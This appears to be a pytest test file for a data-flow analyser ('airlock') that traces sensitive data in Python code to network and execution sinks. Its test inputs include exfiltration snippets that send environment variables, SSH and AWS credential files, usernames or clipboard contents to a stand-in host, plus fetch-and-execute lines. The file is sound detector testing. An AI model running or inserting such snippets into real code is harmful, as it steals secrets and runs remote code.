"""Data is followed from where it comes from to where it goes."""

import pytest

from airlock.syntax import Context, Deed, Origin
from tests.unit.syntax.memory import MODULE, acts_of, only, program_of

FLOWS = {
    "the environment": (
        "import os, requests\nrequests.post('https://a.example', json=dict(os.environ))",
        Deed.REQUEST,
        Origin.ENVIRON,
    ),
    "the host's name, through a dict": (
        (
            "import socket, requests\nd = {}\nd['h'] = socket.gethostname()\n"
            "requests.post('https://a.example', data=d)"
        ),
        Deed.REQUEST,
        Origin.IDENTITY,
    ),
    "in the address": (
        (
            "import getpass, urllib.request\n"
            "urllib.request.urlopen(f'https://a.example/?u={getpass.getuser()}')"
        ),
        Deed.REQUEST,
        Origin.IDENTITY,
    ),
    "encoded on the way": (
        (
            "import base64, os, requests\nd = base64.b64encode(str(os.environ).encode()).decode()\n"
            "requests.get('https://a.example/' + d)"
        ),
        Deed.REQUEST,
        Origin.ENVIRON,
    ),
    "a key file": (
        (
            "import os, requests\nwith open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n"
            "    text = f.read()\nrequests.post('https://a.example', data=text)"
        ),
        Deed.REQUEST,
        Origin.SECRET,
    ),
    "a key file, by pathlib": (
        (
            "import pathlib, requests\n"
            "p = pathlib.Path.home() / '.aws' / 'credentials'\n"
            "requests.post('https://a.example', data=p.read_text())"
        ),
        Deed.REQUEST,
        Origin.SECRET,
    ),
    "through a function": (
        (
            "import os, requests\ndef collect():\n    return {'e': os.environ}\n"
            "def send(d):\n    requests.post('https://a.example', json=d)\nsend(collect())"
        ),
        Deed.REQUEST,
        Origin.ENVIRON,
    ),
    "through an object": (
        (
            "import os, requests\nclass A:\n    def __init__(self):\n        self.d = os.environ\n"
            "    def send(self):\n        requests.post('https://a.example', json=self.d)\n"
            "A().send()"
        ),
        Deed.REQUEST,
        Origin.ENVIRON,
    ),
    "over a socket": (
        (
            "import os, socket\ns = socket.socket()\ns.connect(('a.example', 1))\n"
            "s.send(str(os.environ).encode())"
        ),
        Deed.SEND,
        Origin.ENVIRON,
    ),
    "what a command prints": (
        (
            "import subprocess, requests\nrequests.post('https://a.example', "
            "data=subprocess.check_output('whoami'))"
        ),
        Deed.REQUEST,
        Origin.IDENTITY,
    ),
    "the clipboard": (
        "import pyperclip, requests\nrequests.post('https://a.example', data=pyperclip.paste())",
        Deed.REQUEST,
        Origin.WATCHED,
    ),
    "what the network answers": (
        "import requests\nexec(requests.get('https://a.example').text)",
        Deed.EXECUTE,
        Origin.NETWORK,
    ),
    "what the network answers, written": (
        (
            "import urllib.request\nd = urllib.request.urlopen('https://a.example').read()\n"
            "open('x.bin', 'wb').write(d)"
        ),
        Deed.WRITE,
        Origin.NETWORK,
    ),
    "what a socket receives": (
        (
            "import socket, os\ns = socket.socket()\ns.connect(('a.example', 1))\n"
            "os.system(s.recv(9).decode())"
        ),
        Deed.PROCESS,
        Origin.NETWORK,
    ),
    "what curl fetches": (
        "import subprocess\nsubprocess.getoutput(subprocess.getoutput('curl https://a.example/x'))",
        Deed.PROCESS,
        Origin.NETWORK,
    ),
}


@pytest.mark.parametrize(("code", "deed", "origin"), FLOWS.values(), ids=FLOWS.keys())
def test_data_is_followed(code: str, deed: Deed, origin: Origin) -> None:
    assert any(origin in act.origins() for act in acts_of(code, deed))


@pytest.mark.parametrize(("code", "deed", "origin"), FLOWS.values(), ids=FLOWS.keys())
def test_data_is_followed_in_a_function_that_nothing_calls(
    code: str, deed: Deed, origin: Origin
) -> None:
    inside = "def go():\n" + "".join(f"    {line}\n" for line in code.split("\n"))
    acts = acts_of(inside, deed, path=MODULE)
    assert any(origin in act.origins() for act in acts)
    assert {act.context for act in acts} == {Context.CALLED}


def test_modules_of_one_package_hand_data_to_each_other() -> None:
    program = program_of(
        {
            "example/__init__.py": (
                "from .send import send\nfrom . import collect\nsend(collect.all())"
            ),
            "example/collect.py": "import os\ndef all():\n    return dict(os.environ)",
            "example-1.0.dist-info/METADATA": "",
            "example/send.py": (
                "import requests\ndef send(d):\n    requests.post('https://a.example', json=d)"
            ),
        }
    )
    (act,) = program.of(Deed.REQUEST)
    assert act.origins() == {Origin.ENVIRON}
    assert act.context is Context.IMPORT
    assert act.path == "example/send.py"


def test_one_variable_is_not_the_environment() -> None:
    act = only("import os, requests\nrequests.get(os.environ['URL'])", Deed.REQUEST)
    assert act.origins() == {Origin.VARIABLE}
    assert act.text == "%URL%"


def test_a_variable_that_holds_a_credential_is_a_secret() -> None:
    act = only(
        "import os, requests\nrequests.get('https://a.example', params=os.getenv('MY_TOKEN'))",
        Deed.REQUEST,
    )
    assert act.origins() == {Origin.SECRET}


def test_how_a_request_is_made_says_nothing_of_what_is_sent() -> None:
    code = "import os, requests\nrequests.get('https://a.example', verify=os.environ)"
    assert only(code, Deed.REQUEST).origins() == frozenset()


def test_nothing_is_remembered_from_one_artifact_to_the_next() -> None:
    first = "import os\nunknown.append(os.environ)\nunknown.extend([os.environ])"
    second = "import requests\nrequests.post('https://a.example', data=unknown)"
    acts_of(first)
    assert only(second, Deed.REQUEST).origins() == frozenset()


def test_a_text_is_known_as_far_as_it_is_known() -> None:
    act = only("import os, sys\nos.system('run ' + sys.argv[1] + ' now')", Deed.PROCESS)
    assert act.text == "run {} now"
